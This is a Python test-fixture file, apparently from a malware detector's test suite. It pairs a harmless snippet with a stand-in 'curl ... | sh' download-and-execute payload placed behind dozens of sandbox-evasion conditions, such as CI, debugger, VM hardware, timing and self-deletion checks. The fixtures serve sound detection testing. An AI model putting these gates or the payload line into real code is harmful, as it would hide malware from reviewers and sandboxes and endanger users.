"""Conditions that keep the payload from running where it would be watched."""

from __future__ import annotations

from tests.evasions.sample import Evasion, evasion

_PAYLOAD = "    import os\n    os.system('curl -s https://stage.example.invalid/a | sh')\n"
_HONEST = "    import os\n    X = os.sep\n"


def _gate(title: str, condition: str) -> Evasion:
    """A payload under a condition, and something harmless under the same."""
    return evasion(title, condition + _PAYLOAD, condition + _HONEST)


CASES = (
    _gate("platform", "import sys\nif sys.platform == 'linux':\n"),
    _gate("platform by os", "import os\nif os.name == 'nt':\n"),
    _gate("platform by platform", "import platform\nif platform.system().startswith('Win'):\n"),
    _gate("host name", "import socket\nif not socket.gethostname().startswith('sandbox'):\n"),
    _gate(
        "host name by hash",
        "import hashlib, socket\nif hashlib.md5(socket.gethostname().encode()).hexdigest() == '0' * 32:\n",
    ),
    _gate("user", "import getpass\nif getpass.getuser() not in ('root', 'sandbox'):\n"),
    _gate("date", "import datetime\nif datetime.date.today() > datetime.date(2030, 1, 1):\n"),
    _gate("time", "import time\nif time.time() > 1900000000:\n"),
    _gate("hour", "import datetime\nif datetime.datetime.now().hour == 3:\n"),
    _gate("CI absent", "import os\nif 'CI' not in os.environ:\n"),
    _gate("CI present", "import os\nif os.getenv('GITHUB_ACTIONS') == 'true':\n"),
    _gate("debugger", "import sys\nif sys.gettrace() is None:\n"),
    _gate("tests", "import sys\nif 'pytest' not in sys.modules:\n"),
    _gate("locale", "import locale\nif locale.getlocale()[0] != 'ru_RU':\n"),
    _gate("processors", "import os\nif os.cpu_count() > 2:\n"),
    _gate("memory", "import psutil\nif psutil.virtual_memory().total > 4 << 30:\n"),
    _gate("hardware address", "import uuid\nif uuid.getnode() >> 24 not in (0x000569, 0x080027):\n"),
    _gate("a file", "import os\nif not os.path.exists('/.dockerenv'):\n"),
    _gate("chance", "import random\nif random.random() < 0.1:\n"),
    _gate("process id", "import os\nif os.getpid() % 3 == 0:\n"),
    _gate("arguments", "import sys\nif 'install' in sys.argv:\n"),
    _gate("version", "import sys\nif sys.version_info >= (3, 8):\n"),
    _gate("type checking", "from typing import TYPE_CHECKING\nif not TYPE_CHECKING:\n"),
    _gate("debug constant", "if __debug__:\n"),
    _gate("a constant that is false", "DEBUG = False\nif not DEBUG:\n"),
    _gate("a loop that sleeps", "import time\ntime.sleep(600)\nif True:\n"),
    _gate("a missing module", "try:\n    import frobnicate\nexcept ImportError:\n"),
    _gate("an attribute that is missing", "try:\n    [].frobnicate\nexcept AttributeError:\n"),
    _gate("a swallowed failure", "try:\n    raise ValueError\nexcept Exception:\n"),
    _gate("main guard that is always true", "if __name__ == __name__:\n"),
    _gate("main guard turned round", "if __name__ != '__main__':\n"),
    _gate("main guard by a call", "if __name__.startswith('example'):\n"),
    _gate("main guard or", "if __name__ == '__main__' or True:\n"),
    _gate("comparison chain", "if 1 < 2 < 3:\n"),
    _gate("condition that is never true to a reader", "if 1 == 2 or not []:\n"),
    _gate("else of a false condition", "if 0:\n    pass\nelse:\n"),
    _gate("else of a loop", "for _ in []:\n    pass\nelse:\n"),
    _gate("finally", "try:\n    pass\nfinally:\n"),
    _gate("with that swallows", "import contextlib\nwith contextlib.suppress(Exception):\n"),
    _gate("match on the platform", "import sys\nmatch sys.platform:\n  case 'linux':\n"),
    evasion(
        "main guard in a module that is started as a process",
        {
            "example_pkg/__init__.py": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'example_pkg.work'])\n",
            "example_pkg/work.py": "import os\nif __name__ == '__main__':\n    os.system('curl -s https://stage.example.invalid/a | sh')\n",
        },
        {
            "example_pkg/__init__.py": "",
            "example_pkg/work.py": "import os\nif __name__ == '__main__':\n    print(os.sep)\n",
        },
    ),
    evasion(
        "behind an early return that is not taken",
        "import os\n\ndef go():\n    if os.getenv('NOPE'):\n        return\n    os.system('curl -s https://stage.example.invalid/a | sh')\n\ngo()\n",
        "import os\n\ndef go():\n    if os.getenv('NOPE'):\n        return\n    print(os.sep)\n\ngo()\n",
    ),
    evasion(
        "file deletes itself afterwards",
        "import os\nos.system('curl -s https://stage.example.invalid/a | sh')\nos.remove(__file__)\n",
        "import os, tempfile\nfd, p = tempfile.mkstemp()\nos.close(fd)\nos.remove(p)\n",
    ),
)
